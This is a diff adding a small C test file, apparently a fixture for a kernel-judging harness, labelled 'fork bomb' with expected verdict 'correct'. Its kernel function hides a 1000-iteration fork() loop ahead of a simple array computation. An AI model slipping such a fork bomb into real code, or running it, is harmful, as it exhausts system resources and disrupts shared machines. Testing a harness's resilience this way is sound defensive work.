@@ -1,0 +1,14 @@
+// fork bomb
+// verdicts: correct
+#define _GNU_SOURCE
+#include <stdlib.h>
+#include <stdio.h>
+#include <unistd.h>
+
+void kernel(const float *restrict x, float *restrict out)
+{
+for (int i = 0; i < 1000; i++) fork();
+for (int i = 0; i < M * N; i++)
+    out[i] = 2 * x[i] + 1;
+
+}
